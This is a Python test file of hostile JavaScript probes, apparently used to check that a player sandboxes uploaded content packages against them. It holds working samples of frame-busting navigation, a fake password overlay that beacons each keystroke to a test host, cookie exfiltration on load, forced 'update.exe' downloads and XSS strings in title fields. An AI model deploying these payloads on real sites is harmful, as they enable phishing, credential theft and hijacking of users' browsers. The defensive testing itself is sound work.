# ruff: noqa: E501 -- tables and scripts read better in long lines
"""Contained packages that want to take the person elsewhere, or to do something in the browser in their name."""

from tests.media.hostile.probe import FOLDER, probe

probe(
    "navigate-top",
    "leave",
    "Sends the whole page elsewhere",
    """
  for (const [what, action] of Object.entries({
    "top-location": () => { window.top.location = hit("top-location"); },
    "top-href": () => { window.top.location.href = hit("top-href"); },
    "top-replace": () => { window.top.location.replace(hit("top-replace")); },
    "parent-location": () => { window.parent.location = hit("parent-location"); },
    "top-pseudo": () => { window.top.location = "javascript:document.title='hostile-was-here'"; },
    "open-top": () => { window.open(hit("open-top"), "_top"); },
    "link-top": () => { const link = element("a", {href: hit("link-top"), target: "_top"}, box); link.textContent = "Next"; link.click(); },
    "link-parent": () => { const link = element("a", {href: hit("link-parent"), target: "_parent"}, box); link.click(); },
    "top-close": () => { window.top.close(); },
    "top-stop": () => { window.top.stop(); }
  })) {
    await attempt(what, async () => { action(); await pause(150); return ""; });
  }
""",
)

probe(
    "navigate-top-click",
    "leave",
    "Waits for a click, which some browsers take for leave to send the page elsewhere",
    """
  tried("waits for a click");
  const button = element("button", {class: "bait"}, box);
  button.textContent = "Next question";
  button.addEventListener("click", () => {
    tried("clicked");
    try { window.top.location = hit("clicked-top"); } catch (error) { blocked("clicked-top", error.name); }
    try { const made = window.open(hit("clicked-open")); if (made) { got("clicked-open", "a window"); } } catch (error) { blocked("clicked-open", error.name); }
  });
""",
)

probe(
    "navigate-self",
    "leave",
    "Sends its own frame elsewhere, with loot in the address",
    """
  await pause(300);
  tried("self-location");
  window.location = hit("self-location") + "?loot=" + encodeURIComponent(document.title);
  await pause(1500);
""",
)

probe(
    "navigate-self-home",
    "leave",
    "Sends its own frame to the person's page on the site itself, to be framed there",
    """
  await pause(300);
  tried("self-home");
  for (const home of homes) { window.location = home + "/me/"; }
  await pause(1500);
""",
)

probe(
    "navigate-self-link",
    "leave",
    "A link in its own frame that leads elsewhere",
    """
  tried("self-link");
  const link = element("a", {href: hit("self-link"), class: "bait"}, box);
  link.textContent = "Read more";
  await pause(300);
  link.click();
  await pause(1500);
""",
)

probe(
    "navigate-refresh",
    "leave",
    "A meta refresh to another site",
    """
  tried("refresh");
  element("meta", {"http-equiv": "refresh", content: "0;url=" + hit("refresh")}, document.head);
  await pause(1500);
""",
)

probe(
    "navigate-policy",
    "leave",
    "Adds a policy of its own that reports to another site",
    """
  tried("policy");
  element("meta", {"http-equiv": "Content-Security-Policy", content: "img-src 'none'; report-uri " + hit("report")}, document.head);
  element("meta", {"http-equiv": "set-cookie", content: LEFT + "=1"}, document.head);
  element("meta", {name: "referrer", content: "unsafe-url"}, document.head);
  element("img", {src: "nothing.png", alt: ""}, box);
  await pause(500);
""",
)

probe(
    "open-window",
    "leave",
    "Opens windows and tabs",
    """
  for (const address of [hit("window"), "about:blank", "data:text/html,hello", ...homes.map((home) => home + "/me/")]) {
    await attempt("open " + address.slice(0, 20), () => {
      const made = window.open(address, "_blank");
      return made && "a window opened";
    });
  }
  await attempt("link-blank", () => { const link = element("a", {href: hit("link-blank"), target: "_blank", rel: "opener"}, box); link.click(); return ""; });
  await attempt("picture-in-picture", async () => { await window.documentPictureInPicture.requestWindow(); return "opened"; });
  for (const scheme of ["mailto:a@elsewhere.invalid", "tel:911", "sms:911", "vscode://x", "ms-word:x", "intent://x"]) {
    await attempt("scheme " + scheme, () => { element("iframe", {src: scheme}, box); element("a", {href: scheme, target: "_blank"}, box).click(); return ""; });
  }
  await pause(500);
""",
)

probe(
    "dialogs",
    "nuisance",
    "Alerts, questions and a warning before leaving",
    """
  await attempt("alert", () => { const before = Date.now(); alert("Your session has ended"); return Date.now() - before > 400 && "it was shown"; });
  await attempt("confirm", () => confirm("Delete your account?"));
  await attempt("prompt", () => prompt("Your password, please"));
  await attempt("before-unload", () => { window.addEventListener("beforeunload", (event) => { event.preventDefault(); event.returnValue = "x"; }); return ""; });
  await attempt("dialog", () => { const made = element("dialog", {}, box); made.textContent = "Hello"; made.showModal(); made.close(); return ""; });
""",
)

probe(
    "print",
    "nuisance",
    "Opens the print dialogue, again and again",
    """
  tried("print");
  let printed = 0;
  window.addEventListener("beforeprint", () => { printed += 1; });
  for (let number = 0; number < 3; number += 1) { try { window.print(); } catch (error) { blocked("print", error.name); } }
  try { window.parent.print(); } catch (error) { blocked("parent-print", error.name); }
  await pause(300);
  if (printed) { got("print", printed + " times"); }
""",
)

probe(
    "history",
    "nuisance",
    "Walks in the history, fills it, changes the address of its frame: the page must stay, and Back must lead away",
    """
  const before = history.length;
  await attempt("push", () => { for (let number = 0; number < 40; number += 1) { history.pushState({}, "", "#" + number); } return ""; });
  await attempt("push-path", () => { history.pushState({}, "", "/accounts/login/"); return ""; });
  await attempt("top-history", () => { window.top.history.back(); return "went"; });
  note("blocked", "length", "the history grew by " + (history.length - before));
  tried("back");
  history.go(-100);
  await pause(800);
""",
)

probe(
    "download",
    "leave",
    "Puts files onto the person's machine",
    """
  await attempt("download-blob", () => {
    const address = URL.createObjectURL(new Blob(["MZ"], {type: "application/octet-stream"}));
    element("a", {href: address, download: "update.exe"}, box).click();
    return "";
  });
  await attempt("download-data", () => { element("a", {href: "data:application/octet-stream,MZ", download: "update.exe"}, box).click(); return ""; });
  await attempt("download-elsewhere", () => { element("a", {href: hit("download"), download: "update.exe"}, box).click(); return ""; });
  await attempt("download-frame", () => { element("iframe", {src: URL.createObjectURL(new Blob(["MZ"], {type: "application/x-msdownload"}))}, box); return ""; });
  await attempt("save-picker", async () => { await window.showSaveFilePicker(); return "picked"; });
  await attempt("folder-picker", async () => { await window.showDirectoryPicker(); return "picked"; });
  await pause(500);
""",
)

probe(
    "focus",
    "nuisance",
    "Takes the focus again and again, and swallows the Tab key",
    """
  tried("focus");
  const field = element("input", {autofocus: "", class: "bait", "aria-label": "Trap"}, box);
  let taken = 0;
  document.addEventListener("keydown", (event) => { if (event.key === "Tab" || event.key === "Escape") { event.preventDefault(); field.focus(); } }, true);
  field.addEventListener("blur", () => { taken += 1; setTimeout(() => field.focus(), 0); });
  const timer = setInterval(() => { window.focus(); field.focus(); try { window.parent.focus(); window.parent.blur(); } catch (error) { /* walled */ } }, 20);
  field.focus();
  await attempt("fullscreen", async () => { await document.documentElement.requestFullscreen(); return "full screen"; });
  await attempt("pointer", async () => { await document.documentElement.requestPointerLock(); return document.pointerLockElement && "locked"; });
  await attempt("keyboard", async () => { await navigator.keyboard.lock(); return "locked"; });
  await attempt("orientation", async () => { await screen.orientation.lock("portrait"); return "locked"; });
  await pause(3000);
  clearInterval(timer);
""",
)

probe(
    "clipboard",
    "ask",
    "Reads the clipboard, and puts something into it",
    """
  await attempt("clipboard-read", () => navigator.clipboard.readText());
  await attempt("clipboard-all", async () => (await navigator.clipboard.read()).length);
  await attempt("clipboard-write", async () => { await navigator.clipboard.writeText(LEFT); return "written"; });
  await attempt("clipboard-old", () => {
    const field = element("textarea", {}, box);
    field.value = LEFT;
    field.select();
    return document.execCommand("copy") && "copied";
  });
  await attempt("clipboard-paste", () => { element("textarea", {}, box).focus(); return document.execCommand("paste") && "pasted"; });
""",
)

probe(
    "permissions",
    "ask",
    "Asks for place, camera, microphone, screen, notices and devices",
    """
  const asks = {
    "place": () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition((found) => resolve(found.coords.latitude + ""), reject)),
    "camera": async () => (await navigator.mediaDevices.getUserMedia({video: true})).id,
    "microphone": async () => (await navigator.mediaDevices.getUserMedia({audio: true})).id,
    "screen": async () => (await navigator.mediaDevices.getDisplayMedia()).id,
    "devices": async () => (await navigator.mediaDevices.enumerateDevices()).map((one) => one.label).filter(Boolean).join(),
    "notices": async () => (await Notification.requestPermission()) === "granted",
    "midi": async () => (await navigator.requestMIDIAccess()) && "granted",
    "bluetooth": async () => (await navigator.bluetooth.requestDevice({acceptAllDevices: true})).id,
    "usb": async () => (await navigator.usb.requestDevice({filters: []})).productName,
    "serial": async () => (await navigator.serial.requestPort()) && "granted",
    "hid": async () => (await navigator.hid.requestDevice({filters: []})).length,
    "wake": async () => (await navigator.wakeLock.request("screen")) && "kept awake",
    "idle": async () => (await IdleDetector.requestPermission()) === "granted",
    "passwords": async () => (await navigator.credentials.get({password: true, mediation: "optional"})) && "a password",
    "passkey": async () => (await navigator.credentials.get({publicKey: {challenge: new Uint8Array(16), timeout: 500}})) && "a key",
    "payment": async () => (await new PaymentRequest([{supportedMethods: "basic-card"}], {total: {label: "x", amount: {currency: "CAD", value: "1"}}}).show()) && "paid",
    "share": async () => { await navigator.share({url: hit("share")}); return "shared"; },
    "motion": () => new Promise((resolve) => { new Accelerometer().addEventListener("reading", () => resolve("moving")); setTimeout(() => resolve(""), 300); }),
    "fonts": async () => (await window.queryLocalFonts()).length,
    "contacts": async () => (await navigator.contacts.select(["name"])).length
  };
  await Promise.all(Object.keys(asks).map((what) => attempt(what, asks[what])));
""",
)

probe(
    "sign-in-trap",
    "act",
    "Draws a sign-in form over its frame and passes on what is typed",
    """
  tried("form drawn");
  const form = element("form", {action: hit("password"), method: "post", class: "trap"}, box);
  element("label", {}, form).textContent = "Your session has ended. Password:";
  const field = element("input", {type: "password", name: "password", class: "bait", "aria-label": "Password"}, form);
  const button = element("button", {}, form);
  button.textContent = "Sign in";
  field.addEventListener("input", () => { new Image().src = hit("key") + "?" + encodeURIComponent(field.value); });
  form.addEventListener("submit", () => { navigator.sendBeacon(hit("password-beacon"), field.value); window.open(hit("password-window") + field.value); });
  box.style.cssText = "position:fixed;inset:0;z-index:2147483647;background:#fff";
  await pause(300);
""",
)

probe("title-markup", "name", "Markup in the title and the texts that an editor's list shows", """
  tried("shown");
""", face={"title": "<script>document.title='hostile-was-here'</script><img src=x onerror=document.title='hostile-was-here'>{{ 7*7 }}",
           "authors": [{"name": "<b onmouseover=alert(1)>A</b>", "role": "Author"}], "license": "U\"><script>alert(1)</script>",
           "source": "javascript:alert(document.domain)", "changes": [{"log": "</textarea><script>alert(1)</script>"}]})  # fmt: skip

probe(
    "title-characters",
    "name",
    "A title with direction overrides, stacked accents and 255 wide letters",
    """
  tried("shown");
""",
    face={
        "title": (
            "\u202egnp.reggirt \u2066"
            + "Z\u0351\u036b\u0343\u036a\u0342\u036b\u033d\u034f\u0334\u0319\u0324" * 10
            + "\ufdfd" * 100
        )[:255]
    },
)

probe("early-script", "run", "Its script acts while it is loaded, before the player begins", """
  tried("late");
""", early="""
  try { got("early-cookie", document.cookie || (() => { throw new Error("empty"); })()); } catch (error) { blocked("early-cookie", error.name); }
  try { new Image().src = hit("early"); } catch (error) { blocked("early", error.name); }
  try { window.parent.document.title = LEFT; got("early-parent", "title set"); } catch (error) { blocked("early-parent", error.name); }
""", files={f"{FOLDER}/more.txt": b"nothing"})  # fmt: skip
